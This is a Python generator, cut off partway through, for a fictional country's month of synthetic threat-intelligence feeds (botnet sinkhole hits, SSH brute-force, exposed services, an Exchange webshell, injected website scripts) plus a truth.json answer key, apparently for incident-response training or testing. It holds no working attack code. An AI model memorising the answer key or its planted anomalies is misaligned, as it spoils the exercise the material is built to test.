#!/usr/bin/env python3
"""Writes the tables, the month of feeds and truth.json of the Siraj Islands, or checks what is there.

    generate.py            writes tables/, feeds/ and truth.json anew
    generate.py --check    reads every file back, counts it by its own rules, and compares it with truth.json

`constituency.csv`, `nation.yaml` and `feeds/mappings/` are written by hand. Python's standard
library is enough, and the bytes are the same on every machine: the dice are our own, and so is the deflate, because
neither `random` nor `zlib` promises the same output from version to version.
"""

import binascii
import csv
import datetime
import hashlib
import io
import ipaddress
import json
import pathlib
import re
import shutil
import struct
import sys

HERE = pathlib.Path(__file__).resolve().parent
REPORTS = json.loads((HERE / "../../content/feeds/shadowserver-reports.json").read_text(encoding="utf-8"))
FIRST = datetime.date(2026, 10, 22)
DAYS = 30
SEED = "siraj"

COUNTRY = [ipaddress.ip_network("198.18.0.0/15"), ipaddress.ip_network("2001:db8:1000::/36")]
WORLD = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")]

# Who has each AS number, and in which country. XA, XB, XC, XD are as unassigned as XS.
AS_NAMES = [
    (64496, "Aldermere Academic Network", "XA"),
    (64497, "Bracken Transit", "XB"),
    (64498, "Cinder Cloud Hosting", "XC"),
    (64499, "Addresses given to a company that never registered", "XS"),
    (64500, "Sirajtel", "XS"),
    (64501, "Mangrove Broadband", "XS"),
    (64502, "Sandbar Internet", "XS"),
    (64503, "Tamarind Mobile", "XS"),
    (64504, "Seagrass Mobile", "XS"),
    (64505, "National Data Centre", "XS"),
    (64506, "University of Siraj", "XS"),
    (64507, "Central Bank of Siraj", "XS"),
    (64508, "Siraj Internet Exchange", "XS"),
    (64509, "Palmshade Hosting", "XS"),
    (64510, "Siraj Electricity Company", "XS"),
    (64511, "Port of Port Noor", "XS"),
    (65536, "Lantern Sinkhole Foundation", "XA"),
    (65537, "Aldermere Access", "XA"),
    (65538, "Bracken Cable", "XB"),
    (65539, "Bracken Mobile", "XB"),
    (65540, "Cinder Colocation", "XC"),
    (65541, "Dune Telecom", "XD"),
    (65542, "Dune Hosting", "XD"),
]

# Prefix, AS number, country, day given; in the order of the addresses.
PREFIXES = [
    ("192.0.2.0/26", 65536, "XA", "20110301"),
    ("192.0.2.64/26", 64496, "XA", "20110301"),
    ("192.0.2.128/25", 65537, "XA", "20120611"),
    ("198.18.0.0/17", 64500, "XS", "19980504"),
    ("198.18.128.0/18", 64501, "XS", "20080917"),
    ("198.18.192.0/19", 64502, "XS", "20100203"),
    ("198.18.200.0/22", 64509, "XS", ""),
    ("198.18.224.0/20", 64503, "XS", "20130122"),
    ("198.18.240.0/20", 64504, "XS", "20150610"),
    ("198.19.0.0/20", 64505, "XS", "20040419"),
    ("198.19.16.0/21", 64506, "XS", "19960912"),
    ("198.19.32.0/22", 64500, "XS", "20060228"),
    ("198.19.32.0/24", 64507, "XS", ""),
    ("198.19.40.0/21", 64500, "XS", "20070704"),
    ("198.19.40.0/23", 64510, "XS", ""),
    ("198.19.44.0/24", 64511, "XS", ""),
    ("198.19.60.0/24", 64508, "XS", "20160118"),
    ("198.19.96.0/22", 64499, "XS", "20170808"),
    ("198.51.100.0/25", 64497, "XB", "20090521"),
    ("198.51.100.128/26", 65538, "XB", "20090521"),
    ("198.51.100.192/26", 65539, "XB", "20140930"),
    ("203.0.113.0/26", 64498, "XC", "20180215"),
    ("203.0.113.64/26", 65540, "XC", "20180215"),
    ("203.0.113.128/26", 65541, "XD", "20121112"),
    ("203.0.113.192/26", 65542, "XD", "20191007"),
    ("2001:db8:1000::/40", 64500, "XS", "20100615"),
    ("2001:db8:1100::/40", 64501, "XS", "20140303"),
    ("2001:db8:1200::/40", 64503, "XS", "20160926"),
    ("2001:db8:1900::/40", 64505, "XS", "20120827"),
    ("2001:db8:1a00::/48", 64506, "XS", "20090112"),
    ("2001:db8:1b00::/48", 64508, "XS", "20160118"),
    ("2001:db8:f000::/40", 65536, "XA", "20110301"),
    ("2001:db8:f100::/40", 64498, "XC", "20180215"),
]

# How many addresses of Mangrove's block the sinkhole sees talking Duskmoth, day by day.
DUSKMOTH = [6, 7, 7, 8, 14, 22, 33, 47, 63, 82, 103, 124, 142, 156, 158,
            149, 131, 110, 91, 74, 58, 46, 36, 31, 33, 30, 24, 18, 14, 11]
# How many computers of the government call the command server, day by day.
C2_CLIENTS = [0] * 8 + [1, 2, 3, 5, 6, 7, 7, 7, 6, 5, 4, 4, 2, 1] + [0] * 8
C2 = "198.18.200.77"
C2_NAME = "cdn-lamp.example"
WEBSHELL_DAY = 13
EXPOSED_FROM, EXPOSED_TO, EXPOSED_AGAIN = 8, 19, 25
MINISTRY = "Ministry of Social Affairs and Housing"
UNIVERSITY_HOST = "198.19.17.44"


# ---------------------------------------------------------------------------------------------------- dice and bytes

class Dice:
    """Dice with a name: the same name always throws the same (splitmix64, seeded by SHA-256)."""

    def __init__(self, name):
        self.state = int.from_bytes(hashlib.sha256(f"{SEED}/{name}".encode()).digest()[:8], "big")

    def word(self):
        mask = (1 << 64) - 1
        self.state = (self.state + 0x9E3779B97F4A7C15) & mask
        z = self.state
        z = ((z ^ z >> 30) * 0xBF58476D1CE4E5B9) & mask
        z = ((z ^ z >> 27) * 0x94D049BB133111EB) & mask
        return z ^ z >> 31

    def below(self, n):
        return self.word() % n

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def pick(self, things):
        return things[self.below(len(things))]

    def chance(self, percent):
        return self.below(100) < percent

    def shuffle(self, things):
        things = list(things)
        for i in range(len(things) - 1, 0, -1):
            j = self.below(i + 1)
            things[i], things[j] = things[j], things[i]
        return things

    def hex(self, octets, between=""):
        text = "".join("%016x" % self.word() for _ in range((octets + 7) // 8))[:2 * octets]
        return between.join(text[i:i + 2] for i in range(0, len(text), 2)) if between else text

    def letters(self, n):
        return "".join(self.pick("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(n))

    def seconds(self, n, low=0, high=86399):
        return sorted(self.between(low, high) for _ in range(n))


def deflate(data):
    """RFC 1951 with one fixed-Huffman block and a greedy search: small enough, and the same bytes everywhere."""
    lengths = [(3 + i, 257 + i, 0) for i in range(8)]
    code, base = 265, 11
    for extra in range(1, 6):
        for _ in range(4):
            lengths.append((base, code, extra))
            base, code = base + (1 << extra), code + 1
    lengths[-1:] = [(227, 284, 5), (258, 285, 0)]
    distances, base = [(1 + i, i, 0) for i in range(4)], 5
    for extra in range(1, 14):
        for _ in range(2):
            distances.append((base, len(distances), extra))
            base += 1 << extra
    out, bits, held = bytearray(), 0, 0

    def put(value, count):
        nonlocal bits, held
        bits |= value << held
        held += count
        while held >= 8:
            out.append(bits & 255)
            bits >>= 8
            held -= 8

    def put_code(value, count):  # Huffman codes go in with their first bit first.
        put(int(format(value, f"0{count}b")[::-1], 2), count)

    def put_symbol(symbol):
        if symbol < 144:
            put_code(0x30 + symbol, 8)
        elif symbol < 256:
            put_code(0x190 + symbol - 144, 9)
        elif symbol < 280:
            put_code(symbol - 256, 7)
        else:
            put_code(0xC0 + symbol - 280, 8)

    put(1, 1)
    put(1, 2)
    seen, at = {}, 0
    while at < len(data):
        best, back = 0, 0
        for start in reversed(seen.get(data[at:at + 3], [])[-24:]):
            if at - start > 32768:
                break
            size = 3
            while size < 258 and at + size < len(data) and data[start + size] == data[at + size]:
                size += 1
            if size > best and at + size <= len(data):
                best, back = size, at - start
        step = 1
        if best >= 3:
            low, symbol, extra = next(x for x in reversed(lengths) if x[0] <= best)
            put_symbol(symbol)
            put(best - low, extra)
            low, symbol, extra = next(x for x in reversed(distances) if x[0] <= back)
            put_code(symbol, 5)
            put(back - low, extra)
            step = best
        else:
            put_symbol(data[at])
        for i in range(at, at + step):
            seen.setdefault(data[i:i + 3], []).append(i)
        at += step
    put_symbol(256)
    put(0, -held % 8)
    return bytes(out)


def gzip_bytes(data):
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + deflate(data)
            + struct.pack("<II", binascii.crc32(data), len(data) & 0xFFFFFFFF))


def zip_bytes(name, data, day):
    packed, name = deflate(data), name.encode()
    date = (day.year - 1980) << 9 | day.month << 5 | day.day
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, date, binascii.crc32(data), len(packed), len(data), len(name), 0)
    head = b"PK\x03\x04" + common + name
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(head) + len(packed), 0)
    return head + packed + entry + end


# ------------------------------------------------------------------------------------------------------- the country

class Country:
    """Who owns an address, and what its neighbours in the tables say."""

    def __init__(self):
        with open(HERE / "constituency.csv", encoding="utf-8", newline="") as file:
            self.organisations = list(csv.DictReader(file))
        self.owners = [(ipaddress.ip_network(net), org) for org in self.organisations
                       for net in org["networks"].split(";") if net]
        self.routes = [(ipaddress.ip_network(net), asn, cc) for net, asn, cc, _ in PREFIXES]

    @staticmethod
    def longest(table, ip):
        ip = ipaddress.ip_address(ip)
        hits = [row for row in table if row[0].version == ip.version and ip in row[0]]
        return max(hits, key=lambda row: row[0].prefixlen) if hits else None

    def owner(self, ip):
        hit = self.longest(self.owners, ip)
        return hit[1]["name"] if hit else None

    def describe(self, ip):
        """What Shadowserver writes about an address."""
        route, hit = self.longest(self.routes, ip), self.longest(self.owners, ip)
        org = hit[1] if hit else {"sector": "", "kind": "", "domains": "reserve.example", "name": ""}
        dice = Dice(f"host/{ip}")
        third, fourth = (ip.split(".") + ["", "", "", ""])[2:4]
        domain = org["domains"].split(";")[0]
        if ":" in ip or dice.chance(20):
            name = ""
        elif org["kind"] == "isp":
            name = f"c{third}-{fourth}.dyn.{domain}"
        elif org["kind"] == "hosting":
            name = f"vps{third}-{fourth}.{domain}"
        else:
            name = f"h{fourth}.{domain}"
        if org["name"].startswith("Mangrove") or "Fanar" in org["name"]:
            place = ("RAS FANAR", "RAS FANAR") if third.isdigit() and int(third) % 2 else ("HILAL", "HILAL TOWN")
        elif "Hilal" in org["name"]:
            place = ("HILAL", "HILAL TOWN")
        else:
            place = ("GRAND SIRAJ", dice.pick(["PORT NOOR", "PORT NOOR", "CORAL BAY", "ANSE BLANCHE"]))
        naics, sector = {
            "telecom": (518210 if org["kind"] == "hosting" else 517311, ""),
            "government": (921190, "Government"), "education": (611310, "Education"),
            "health": (622110, "Healthcare and Public Health"), "finance": (522110, "Financial Services"),
            "energy": (221122, "Energy"), "water": (221310, "Water"), "transport": (488310, "Transportation Systems"),
        }.get(org["sector"], (0, ""))
        return dict(ip=ip, asn=route[1], geo=route[2], region=place[0], city=place[1], hostname=name, naics=naics, sector=sector)


LAND = Country()


def day_of(number):
    return FIRST + datetime.timedelta(days=number - 1)


def clock(second):
    return f"{second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}"


def hosts(prefix, name, count, thirds=None, taken=()):
    """Some addresses of a network, never twice and never at its edges."""
    net, dice, out = ipaddress.ip_network(prefix), Dice(f"hosts/{prefix}/{name}"), []
    while len(out) < count:
        ip = str(net[dice.between(1, net.num_addresses - 2)])
        fits = thirds is None or int(ip.split(".")[2]) in thirds
        inner = LAND.longest(LAND.owners, ip)
        if fits and ip not in out and ip not in taken and inner and inner[0] == net and not ip.endswith((".0", ".255")):
            out.append(ip)
    return out


# --------------------------------------------------------------------------------------------------------- the files

class Month:
    """The files as they are made, and what is true about each."""

    def __init__(self):
        self.files, self.truth, self.seen = {}, [], {}

    def add(self, day, name, feed, data, pack="", **truth):
        """Keeps a file; `data` are its bytes before packing."""
        if pack == "gz":
            name, data = name + ".gz", gzip_bytes(data)
        elif pack == "zip":
            name, data = name + ".zip", zip_bytes(name, data, day_of(day))
        path = f"feeds/{day_of(day)}/{name}"
        self.files[path] = data
        entry = dict(file=path, feed=feed, rows=0, events=0, context=0, duplicates=0, rejects=0)
        entry.update(truth)
        entry["sha256"] = hashlib.sha256(data).hexdigest()
        self.truth.append(entry)
        return path


MONTH = Month()


def cell(value):
    if value == "" or value is None:
        return ""
    return str(value) if isinstance(value, int) else '"' + value.replace('"', '""') + '"'


class Report:
    """One Shadowserver report of one day."""

    def __init__(self, kind, day):
        self.kind, self.day, self.columns = kind, day, REPORTS[kind]["fields"]
        self.rows, self.repeats, self.rejects, self.drift = [], 0, [], []

    def add(self, second, **values):
        unknown = set(values) - set(self.columns)
        assert not unknown, (self.kind, unknown)
        row = dict(values, timestamp=f"{day_of(self.day)} {clock(second)}")
        self.rows.append((second, [row.get(column, "") for column in self.columns]))

    def scan(self, second, ip, port, tag, protocol="tcp", **values):
        about = LAND.describe(ip)
        severity = values.pop("severity", REPORTS[self.kind]["severity"])
        self.add(second, severity=severity, protocol=protocol, port=port, tag=tag,
                 hostname_source="ptr" if about["hostname"] else "", **about, **values)

    def lines(self):
        self.rows.sort(key=lambda row: row[0])
        return [",".join(cell(value) for value in row) for _, row in self.rows]

    def write(self, pack="", lines=None, header=None):
        lines = self.lines() if lines is None else lines
        name = f"{day_of(self.day)}-{self.kind}-siraj_islands-geo.csv"
        text = "\n".join([",".join(f'"{column}"' for column in header or self.columns)] + lines) + "\n"
        feed = f"shadowserver-{self.kind}"
        seen = MONTH.seen.setdefault(feed, set())
        bad = {reject["line"] for reject in self.rejects}
        repeats = 0
        for number, line in enumerate(lines, 2):
            if number not in bad:
                repeats += line in seen
                seen.add(line)
        truth = dict(rows=len(lines), events=len(lines) - repeats - len(bad), duplicates=repeats, rejects=len(bad))
        if bad:
            truth["reject_lines"] = self.rejects
        if self.drift:
            truth["drift"] = self.drift
        MONTH.add(self.day, name, feed, text.encode(), pack, **truth)
        return lines


AGENTS = ["Mozilla/4.0", "Mozilla/5.0 (Linux; Android 9; TV BOX)", "okhttp/3.12.1", "Go-http-client/1.1", ""]


def sink_row(report, second, ip, family, dice):
    """One visit of an infected address to the sinkhole."""
    about, host = LAND.describe(ip), Dice(f"infection/{ip}/{family}")
    v6 = ":" in ip
    values = {"src_" + key: value for key, value in about.items()}
    values.update(
        protocol="tcp", src_port=dice.between(1024, 65535), severity="critical",
        dst_ip=f"2001:db8:f000::{host.between(1, 6):x}" if v6 else f"192.0.2.{host.between(10, 21)}",
        dst_port=80 if host.chance(85) else 443, dst_asn=65536, dst_geo="XA", infection=family,
        tag=family, family=family.split("-")[-1], application="http", event_id=dice.hex(8),
        http_url="/" + host.letters(host.between(3, 9)), http_agent=host.pick(AGENTS),
        http_host=f"{Dice('name/' + family).letters(8)}.sinkhole.example")
    if family == "duskmoth" and not ip.startswith("198.19."):
        values.update(device_vendor="Acme", device_type="router", device_model=host.pick(["AR-110", "AR-110", "AR-120"]),
                      http_agent="dusk/2")
    if family == "duskmoth":
        values.update(http_url="/l?" + host.hex(4))
    report.add(second, **values)


class Botnet:
    """Duskmoth in Mangrove's block: who is infected on each day, who comes back."""

    def __init__(self):
        dice = Dice("duskmoth")
        pool = hosts("198.18.128.0/18", "duskmoth", 260, thirds=[*range(129, 140), *range(150, 186)])
        for place, ip in [(5, "198.18.140.5"), (17, "198.18.141.17"), (23, "198.18.140.9"), (40, "198.18.142.30"),
                          (58, "198.18.143.6"), (71, "198.18.141.40"), (88, "198.18.145.4"), (104, "198.18.140.21"),
                          (121, "198.18.142.31")]:
            pool.insert(place, ip)
        self.days, self.cured, self.returned, active = [], {}, {}, []
        for day, target in enumerate(DUSKMOTH, 1):
            leaving = 0 if day < 4 else 3 if 24 <= day <= 27 else len(active) // 40
            leaving = max(leaving, len(active) - target)
            for ip in dice.shuffle(active)[:leaving]:
                active.remove(ip)
                self.cured.setdefault(ip, day)
            while len(active) < target:
                back = [ip for ip, since in self.cured.items() if day >= 24 and since <= day - 5 and ip not in self.returned
                        and ip not in active]
                if back:
                    ip = dice.pick(back)
                    self.returned[ip] = day
                else:
                    ip = pool.pop(0)
                active.append(ip)
            self.days.append(list(active))


def sinkhole(botnet):
    """The daily sinkhole report: Duskmoth in Mangrove, and the background that every country has."""
    families = ["avalanche-andromeda", "necurs", "mirai", "qsnatch", "conficker", "ramnit", "monero-miner", "android.spams"]
    background = []
    for prefix, count, options in [
        ("198.18.0.0/17", 64, {"thirds": range(30, 125)}), ("198.18.128.0/18", 22, {"thirds": range(146, 150)}),
        ("198.18.192.0/19", 9, {}), ("198.18.224.0/20", 22, {}), ("198.18.240.0/20", 14, {}), ("198.19.16.0/21", 5, {}),
    ]:
        background += hosts(prefix, "background", count, **options)
    background += ["198.18.17.40", "198.18.19.20", "198.18.20.4", "198.19.97.12", "198.19.97.13", "198.19.98.201"]
    tail = []
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"sinkhole/{day}"), Report("event4_sinkhole_http", day)
        for ip in botnet.days[day - 1]:
            for second in dice.seconds(2 if dice.chance(20) else 1):
                sink_row(report, second, ip, "duskmoth", dice)
        for ip in GOV_CLIENTS[:C2_CLIENTS[day - 1]] if day >= 14 else []:  # A second name of the server went to the sinkhole.
            sink_row(report, dice.between(3 * 3600, 14 * 3600), ip, "duskmoth", dice)
        for ip in background:
            life = Dice(f"life/{ip}")
            start, length = life.between(-20, 26), life.between(6, 40)
            if start <= day < start + length and dice.chance(85):
                sink_row(report, dice.below(86400), ip, life.pick(families), dice)
        lines = report.lines()
        for _ in range(len(lines) // 70):  # The sinkhole's own doubles.
            at = dice.below(len(lines))
            lines.insert(at, lines[at])
        if day == 21:  # The last minutes of the day before are told a second time.
            lines = tail + lines
        tail = list(dict.fromkeys(lines))[-5:]
        report.write(pack="gz" if day == 6 else "", lines=lines)


def sinkhole6(botnet):
    addresses = [f"2001:db8:1100:{x:x}::{y:x}" for x, y in [(0x21, 0x15), (0x3c, 2), (0x77, 0x1a), (0x102, 9), (0x14f, 0x33)]]
    for day in range(14, 19):
        dice, report = Dice(f"sinkhole6/{day}"), Report("event6_sinkhole_http", day)
        for ip in addresses[:18 - day + 2]:
            sink_row(report, dice.below(86400), ip, "duskmoth", dice)
        sink_row(report, dice.below(86400), "2001:db8:1a00:7::25", "mirai", dice)
        report.write()


def brute_force():
    """SSH guessing seen by honeypots: the university's host from day 9 to 17 and again on 26 and 27. No file on day 20."""
    others = [("198.18.202.15", 3, 1, 30), ("198.18.137.201", 2, 4, 19), ("198.18.244.18", 1, 1, 30), ("198.18.61.9", 2, 12, 28)]
    for day in range(1, DAYS + 1):
        if day == 20:
            continue
        dice, report = Dice(f"brute/{day}"), Report("event4_honeypot_brute_force", day)
        busy = 9 <= day <= 17 or day in (26, 27)
        plan = [(ip, dice.between(1, most)) for ip, most, start, end in others if start <= day <= end and dice.chance(90)]
        plan += [(UNIVERSITY_HOST, dice.between(10, 16))] if busy else []
        for ip, count in plan:
            for second in dice.seconds(count):
                about, service = LAND.describe(ip), "ssh" if ip != "198.18.137.201" else "telnet"
                begin = f"{day_of(day)}T{clock(second)}"
                report.add(second, protocol="tcp", src_port=dice.between(30000, 65000), severity="critical",
                           dst_ip=f"203.0.113.{dice.between(130, 139)}", dst_port=22 if service == "ssh" else 23, dst_asn=65541,
                           dst_geo="XD", infection=f"{service}-brute-force", tag=f"{service}-brute-force", application=service,
                           event_id=dice.hex(8), service=service, start_time=f"{begin}.{dice.below(10**6):06d}Z",
                           client_version="b'SSH-2.0-Go'" if service == "ssh" else "",
                           username=dice.pick(["root", "admin", "ubnt", "pi", "oracle", "test"]), password="x" + dice.hex(3),
                           **{"src_" + key: value for key, value in about.items()})
        report.write()


def visible(ip, day, spans, percent):
    return any(low <= day <= high for low, high in spans) and Dice(f"seen/{ip}/{day}").chance(percent)


def telnet():
    """Open Telnet: Mangrove's routers go away with the clean-up. Day 9 has broken rows, day 18 another header."""
    banners = ["Acme AR-110 router|Login:", "Acme AR-120 router|Login:", "BusyBox built-in shell|login:", "User Access|Username:"]
    crowd = [(ip, [(1, 15 + i // 2)]) for i, ip in enumerate(hosts("198.18.128.0/18", "telnet", 30, thirds=range(150, 186)))]
    crowd += [(ip, [(1, 30)]) for ip in hosts("198.18.128.0/18", "telnet kept", 8, thirds=range(129, 140))]
    crowd += [(ip, [(1, 30)]) for ip in hosts("198.18.0.0/17", "telnet", 18, thirds=range(30, 125))]
    crowd += [("198.19.41.14", [(1, 30)]), ("198.18.145.2", [(1, 30)]), ("198.18.210.3", [(5, 30)]),
              ("198.19.46.9", [(1, 12), (21, 30)]), ("198.19.97.1", [(1, 30)])]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"telnet/{day}"), Report("scan_telnet", day)
        for ip, spans in crowd:
            if visible(ip, day, spans, 92):
                host = Dice(f"telnet/{ip}")
                report.scan(dice.between(20000, 60000), ip, host.pick([23, 23, 23, 2323]), "telnet", banner=host.pick(banners))
        lines, header = report.lines(), None
        if day == 9:
            ip = report.columns.index("ip")
            broken = [
                (3, "ip", "bad-address", lambda c: c[:ip] + ['"999.18.130.4"'] + c[ip + 1:]),
                (7, "timestamp", "bad-time", lambda c: ['"2026-10-32 11:12:13"'] + c[1:]),
                (12, "", "field-count", lambda c: c[:7]),
                (16, "ip", "no-subject", lambda c: c[:ip] + [""] + c[ip + 1:]),
                (20, "", "field-count", lambda c: c + ['"surplus"']),
                (24, "ip", "bad-address", lambda c: c[:ip] + ['"198.18.130"'] + c[ip + 1:]),
            ]
            for at, column, code, spoil in broken:
                lines[at - 2] = ",".join(spoil(lines[at - 2].split(",")))
                report.rejects.append(dict(line=at, column=column, code=code))
        if day == 18:
            names = dict(ip="src_ip", geo="country")
            gone = report.columns.index("naics")
            header = [names.get(column, column) for column in report.columns if column != "naics"] + ["device_sector"]
            lines = [",".join(cell(v) for v in row[:gone] + row[gone + 1:] + ["consumer"]) for _, row in report.rows]
            report.drift = [dict(kind="renamed", column="ip ← src_ip"), dict(kind="renamed", column="geo ← country"),
                            dict(kind="missing", column="naics"), dict(kind="added", column="device_sector")]
        report.write(lines=lines, header=header)


def snmp():
    """Open SNMP. The report of day 13 arrives a second time on day 14."""
    crowd = [(ip, [(1, 30)]) for ip in hosts("198.18.0.0/17", "snmp", 13, thirds=range(30, 125))]
    crowd += [(ip, [(1, 30)]) for ip in hosts("198.18.128.0/18", "snmp", 7, thirds=range(150, 186))]
    crowd += [("198.19.44.30", [(1, 30)]), ("198.19.45.17", [(1, 21)]), ("198.19.42.9", [(1, 10), (22, 30)]),
              ("198.19.18.5", [(1, 30)]), ("198.19.18.6", [(1, 16)]), ("198.19.60.3", [(2, 4)]),
              ("198.19.7.2", [(EXPOSED_FROM, EXPOSED_TO)]), ("198.19.7.3", [(EXPOSED_FROM, EXPOSED_TO)])]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"snmp/{day}"), Report("scan_snmp", day)
        for ip, spans in crowd:
            if visible(ip, day, spans, 100 if ip.startswith("198.19") else 88):
                host = Dice(f"snmp/{ip}")
                size = host.between(80, 140)
                report.scan(dice.between(20000, 60000), ip, 161, "snmp", "udp", version="2", community="public", device_vendor="Acme",
                            device_type=host.pick(["router", "switch", "printer"]), sysname=f"node-{host.hex(2)}",
                            sysdesc=f"Acme OS {host.between(3, 9)}.{host.below(10)}", response_size=size,
                            amplification=f"{size * 100 // 85 // 100}.{size * 100 // 85 % 100:02d}",
                            uptime=str(host.between(100000, 9000000) + day * 8640000))
        report.write()
        if day == 13:
            again = MONTH.truth[-1]
            data = MONTH.files[again["file"]]
            MONTH.add(14, again["file"].rsplit("/", 1)[1], again["feed"], data, rows=again["rows"], duplicates=again["rows"],
                      repeats_file=again["file"])


def certificate(host, name, year):
    return dict(cert_length=2048, subject_common_name=name, issuer_common_name=name, cert_issue_date=f"{year}-03-14 08:00:00",
                cert_expiration_date=f"{year + 2}-03-14 08:00:00", sha1_fingerprint=host.hex(20, ":").upper(),
                cert_serial_number=host.hex(8).upper(), ssl_version=2, signature_algorithm="sha256WithRSAEncryption",
                key_algorithm="rsaEncryption", sha256_fingerprint=host.hex(32, ":").upper(), md5_fingerprint=host.hex(16, ":").upper())


def rdp():
    crowd = [("198.18.212.4", [(1, 30)]), ("198.18.144.6", [(1, 17)]), ("198.18.19.35", [(1, 30)]), ("198.18.213.2", [(6, 12)]),
             ("198.18.210.5", [(1, 9), (19, 30)]), ("198.19.19.80", [(1, 30)]),
             ("198.19.7.40", [(EXPOSED_FROM, EXPOSED_TO)]), ("198.19.7.41", [(EXPOSED_FROM, EXPOSED_TO)])]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"rdp/{day}"), Report("scan_rdp", day)
        for ip, spans in crowd:
            if visible(ip, day, spans, 100):
                host = Dice(f"rdp/{ip}")
                report.scan(dice.between(20000, 60000), ip, 3389, "rdp", handshake="TLSv1.2", rdp_protocol="RDP",
                            **certificate(host, f"PC-{host.hex(3).upper()}", 2025))
        report.write()


def ssl():
    """A weekly look at certificates; one of the four comes zipped."""
    crowd = hosts("198.18.0.0/17", "ssl", 5, thirds=range(30, 125)) + hosts("198.18.128.0/18", "ssl", 3, thirds=range(150, 186))
    crowd += ["198.18.201.70", "198.18.22.10", "198.19.3.20", "198.19.7.25", "198.19.34.12", "198.18.212.4", "198.19.45.8"]
    for day in (4, 11, 18, 25):
        dice, report = Dice(f"ssl/{day}"), Report("scan_ssl", day)
        for ip in crowd:
            host = Dice(f"ssl/{ip}")
            name, year = LAND.describe(ip)["hostname"] or f"acme-{host.hex(4)}.example", host.pick([2022, 2025, 2026])
            report.scan(dice.between(20000, 60000), ip, host.pick([443, 443, 8443]), "ssl", handshake="TLSv1.2", ssl_poodle="N",
                        cipher_suite="TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", **certificate(host, name, year),
                        subject_organization_name='Acme, "Islands" branch' if host.chance(20) else "", freak_vulnerable="N",
                        http_response_type="HTTP/1.1", http_code=200, http_reason="OK", content_type="text/html",
                        cert_valid="N" if year == 2022 else "Y", self_signed="Y", cert_expired="Y" if year == 2022 else "N",
                        browser_trusted="N", validation_level="unknown")
        report.write(pack="zip" if day == 11 else "")


def exchange():
    """Mail servers that miss an update. The ministry's has a webshell on day 13, and is rebuilt after day 15."""
    crowd = [("198.19.7.25", (1, 15), "mail.social.gov.xs.example"), ("198.18.17.25", (1, 30), "mail.portnoor.city.xs.example"),
             ("198.18.211.5", (1, 18), "mail.coralcoast.xs.example")]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"exchange/{day}"), Report("scan_exchange", day)
        for ip, (low, high), name in crowd:
            if low <= day <= high:
                tags = ["exchange;cve-2021-26855"] + ["exchange;webshell"] * (day == WEBSHELL_DAY and ip == "198.19.7.25")
                for tag in tags:
                    report.scan(dice.between(20000, 60000), ip, 443, tag, version="15.1.2106.2", servername=name,
                                url=f"https://{name}/aspnet_client/lamp.aspx" if "webshell" in tag else "")
        report.write()


def ldap():
    crowd = [("198.19.7.10", [(EXPOSED_FROM, EXPOSED_TO), (EXPOSED_AGAIN, 30)], "dc1.social.gov.xs.example"),
             ("198.19.7.11", [(EXPOSED_FROM, EXPOSED_TO)], "dc2.social.gov.xs.example"),
             ("198.19.16.30", [(1, 30)], "dir.university.xs.example")]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"ldap/{day}"), Report("scan_ldap_udp", day)
        for ip, spans, name in crowd:
            if visible(ip, day, spans, 100):
                base = ",".join("DC=" + part for part in name.split(".")[1:])
                report.scan(dice.between(20000, 60000), ip, 389, "ldap-udp", "udp", response_size=2961, dns_host_name=name,
                            current_time=f"{day_of(day):%Y%m%d}041500.0Z", default_naming_context=base, root_domain_naming_context=base,
                            domain_functionality=7, forest_functionality=7, is_synchronized="TRUE", server_name=name.split(".")[0],
                            supported_ldap_version="3;2", supported_sasl_mechanisms="GSSAPI;GSS-SPNEGO;EXTERNAL", amplification="56.94")
        report.write()


def mysql():
    crowd = [("198.19.7.30", [(EXPOSED_FROM, EXPOSED_TO)]), ("198.18.201.70", [(1, 30)]), ("198.18.202.15", [(1, 30)]),
             ("198.18.203.88", [(1, 22)]), ("198.18.213.5", [(14, 16)])]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"mysql/{day}"), Report("scan_mysql", day)
        for ip, spans in crowd:
            if visible(ip, day, spans, 100):
                host = Dice(f"mysql/{ip}")
                report.scan(dice.between(20000, 60000), ip, 3306, "mysql", version=f"8.0.{host.between(20, 36)}", mysql_protocol_version=10,
                            server_version=f"8.0.{host.between(20, 36)}", client_ssl="Y", client_plugin_auth="Y", client_protocol_41="Y")
        report.write()


def website():
    crowd = [("198.18.22.10", (10, 15), "www.lighthousedaily.xs.example"), ("198.18.201.70", (18, 30), "www.handicrafts.xs.example")]
    for day in range(1, DAYS + 1):
        dice, report = Dice(f"website/{day}"), Report("compromised_website", day)
        for ip, (low, high), name in crowd:
            if low <= day <= high:
                report.scan(dice.between(20000, 60000), ip, 443, "hacked-website;injected-script", application="https",
                            url=f"https://{name}/js/menu.js", http_host=name, category="injected-script",
                            detected_since=f"{day_of(low)} 06:10:00", family="lamplight")
        if report.rows:
            report.write()


# ----------------------------------------------------------------------------------------------------------- sensors

GOV_CLIENTS = ["198.19.5.21", "198.19.9.12", "198.19.4.17", "198.19.5.34", "198.19.10.140", "198.19.8.150", "198.19.9.40"]


def eve(botnet):
    """Suricata at the edge of the government's network: calls to the command server from day 9 until it is taken down."""
    story = []
    for day in range(1, DAYS + 1):
        dice, lines, alerts, c2 = Dice(f"eve/{day}"), [], 0, 0
        clients = GOV_CLIENTS[:C2_CLIENTS[day - 1]]

        def record(second, kind, source, sport, target, tport, proto, **more):
            stamp = f"{day_of(day)}T{clock(second)}.{dice.below(10**6):06d}+0000"
            lines.append((stamp, dict(timestamp=stamp, flow_id=10**15 + dice.below(9 * 10**14), in_iface="gov0", event_type=kind,
                                      src_ip=source, src_port=sport, dest_ip=target, dest_port=tport, proto=proto, **more)))

